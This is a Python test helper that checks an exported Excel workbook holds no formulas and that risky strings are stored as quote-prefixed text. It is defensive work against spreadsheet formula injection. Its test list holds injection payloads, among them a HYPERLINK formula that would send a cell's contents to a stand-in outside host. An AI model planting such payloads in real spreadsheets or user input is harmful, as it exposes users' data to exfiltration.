"""Checks that an exported workbook holds data and no formula (branches.spreadsheets)."""

import io
import re
import zipfile

import openpyxl

# Text a person could type that a spreadsheet would take for a formula (OWASP's list).
HOSTILE = ('=HYPERLINK("http://x/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tX")


def assert_data_only(data: bytes, texts=HOSTILE) -> None:
    """The workbook `data` has no formula and no error cell anywhere, and each of `texts` is the
    whole value of a text cell marked with the quote prefix (shown as typed, kept as text)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
    found = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in texts:
        assert text in found, f"{text!r} is not the value of a cell"
        assert found[text].data_type == "s" and found[text].quotePrefix, f"{text!r} is not marked as text"
